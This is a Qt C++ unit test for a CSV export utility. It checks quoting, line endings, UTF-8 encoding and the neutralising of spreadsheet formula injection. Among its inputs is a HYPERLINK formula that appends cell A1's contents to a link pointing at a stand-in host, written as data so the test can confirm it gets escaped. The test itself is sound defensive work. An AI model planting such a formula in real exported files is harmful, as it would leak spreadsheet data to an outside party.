#include "core/util/Csv.h"

#include "TestMain.h"

#include <QFile>
#include <QTemporaryDir>

using namespace roomwarden::util;

namespace {
// An independent RFC 4180 reader, so that the writer is checked against the grammar and not
// against itself.
QList<QStringList> parse(const QString &text)
{
    QList<QStringList> rows;
    QStringList row;
    QString cell;
    bool quoted = false;
    bool cellStarted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == u'"') {
                if (i + 1 < text.size() && text.at(i + 1) == u'"') {
                    cell += u'"';
                    ++i;
                } else {
                    quoted = false;
                }
            } else {
                cell += c;
            }
            continue;
        }
        if (c == u'"' && !cellStarted) {
            quoted = true;
            cellStarted = true;
        } else if (c == u',') {
            row << cell;
            cell.clear();
            cellStarted = false;
        } else if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') {
            row << cell;
            rows << row;
            row.clear();
            cell.clear();
            cellStarted = false;
            ++i;
        } else {
            cell += c;
            cellStarted = true;
        }
    }
    if (cellStarted || !row.isEmpty())
        rows << (row << cell);
    return rows;
}
} // namespace

class TestCsv : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void field_data();
    void field();
    void recordEndsWithCrlf();
    void documentIsUtf8WithoutBom();
    void fileRoundTrips();
    void unwritablePathReportsAnError();
};

void TestCsv::field_data()
{
    QTest::addColumn<QString>("value");
    QTest::addColumn<QString>("expected");
    const QString q = QStringLiteral("\"");
    QTest::newRow("empty") << QString() << QString();
    QTest::newRow("plain") << QStringLiteral("alice") << QStringLiteral("alice");
    QTest::newRow("hyperlink formula")
        << QStringLiteral("=HYPERLINK(\"http://x.test/?\"&A1,\"click\")")
        << (q + QStringLiteral("'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"click\"\")") + q);
    QTest::newRow("plus") << QStringLiteral("+1") << QStringLiteral("'+1");
    QTest::newRow("minus") << QStringLiteral("-2+3") << QStringLiteral("'-2+3");
    QTest::newRow("at") << QStringLiteral("@SUM(A1:A9)") << QStringLiteral("'@SUM(A1:A9)");
    QTest::newRow("tab") << QStringLiteral("\t=1") << QStringLiteral("'\t=1");
    QTest::newRow("carriage return") << QStringLiteral("\r=1") << (q + QStringLiteral("'\r=1") + q);
    QTest::newRow("formula sign later is harmless")
        << QStringLiteral("a=b+c") << QStringLiteral("a=b+c");
    QTest::newRow("comma") << QStringLiteral("a,b") << QStringLiteral("\"a,b\"");
    QTest::newRow("quotes doubled")
        << QStringLiteral("say \"hi\"") << QStringLiteral("\"say \"\"hi\"\"\"");
    QTest::newRow("newline") << QStringLiteral("line1\nline2")
                             << QStringLiteral("\"line1\nline2\"");
    QTest::newRow("crlf inside") << QStringLiteral("a\r\nb") << QStringLiteral("\"a\r\nb\"");
    QTest::newRow("emoji") << QStringLiteral("gg 🐸🔥") << QStringLiteral("gg 🐸🔥");
    QTest::newRow("markup") << QStringLiteral("<b>x</b>") << QStringLiteral("<b>x</b>");
    QTest::newRow("leading space before =")
        << QStringLiteral(" =1") << QStringLiteral(" =1"); // spreadsheets keep it as text
}

void TestCsv::field()
{
    QFETCH(QString, value);
    QFETCH(QString, expected);
    QCOMPARE(csv::field(value), expected);
}

void TestCsv::recordEndsWithCrlf()
{
    QCOMPARE(csv::record({QStringLiteral("a"), QString(), QStringLiteral("b,c")}),
             QStringLiteral("a,,\"b,c\"\r\n"));
    QCOMPARE(csv::record({}), QStringLiteral("\r\n"));
}

void TestCsv::documentIsUtf8WithoutBom()
{
    const QByteArray bytes = csv::document({{QStringLiteral("é"), QStringLiteral("🐸")}});
    QVERIFY(!bytes.startsWith("\xEF\xBB\xBF"));
    QCOMPARE(bytes, QByteArray("\xC3\xA9,\xF0\x9F\x90\xB8\r\n"));
}

void TestCsv::fileRoundTrips()
{
    const QList<QStringList> rows = {
        {QStringLiteral("time"), QStringLiteral("who"), QStringLiteral("reason")},
        {QStringLiteral("2024-05-01T10:00:00Z"), QStringLiteral("alice"),
         QStringLiteral("=HYPERLINK(\"http://x.test\")")},
        {QStringLiteral("2024-05-01T10:01:00Z"), QStringLiteral("b\"o\"b"),
         QStringLiteral("multi\r\nline, with comma")},
        {QString(), QStringLiteral("-1"), QStringLiteral("🐸 @everyone")},
    };
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QString path = dir.filePath(QStringLiteral("out.csv"));
    QString error;
    QVERIFY2(csv::writeFile(path, rows, &error), qPrintable(error));
    QFile f(path);
    QVERIFY(f.open(QIODevice::ReadOnly));
    const QByteArray bytes = f.readAll();
    QVERIFY(bytes.endsWith("\r\n"));
    const QList<QStringList> back = parse(QString::fromUtf8(bytes));
    QCOMPARE(back.size(), rows.size());
    for (qsizetype r = 0; r < rows.size(); ++r) {
        QCOMPARE(back.at(r).size(), rows.at(r).size());
        for (qsizetype c = 0; c < rows.at(r).size(); ++c) {
            const QString &original = rows.at(r).at(c);
            const QString &read = back.at(r).at(c);
            // What a spreadsheet would run as a formula comes back as text behind an apostrophe;
            // everything else comes back exactly.
            if (!original.isEmpty() && QStringLiteral("=+-@\t\r").contains(original.front()))
                QCOMPARE(read, QStringLiteral("'") + original);
            else
                QCOMPARE(read, original);
        }
    }
    QCOMPARE(back.at(1).at(2), QStringLiteral("'=HYPERLINK(\"http://x.test\")"));
    QCOMPARE(back.at(3).at(1), QStringLiteral("'-1"));
}

void TestCsv::unwritablePathReportsAnError()
{
    QString error;
    QVERIFY(!csv::writeFile(QStringLiteral("/nonexistent-dir/x/out.csv"), {{QStringLiteral("a")}},
                            &error));
    QVERIFY(!error.isEmpty());
}

ROOMWARDEN_TEST_MAIN_CORE(TestCsv)
#include "TestCsv.moc"
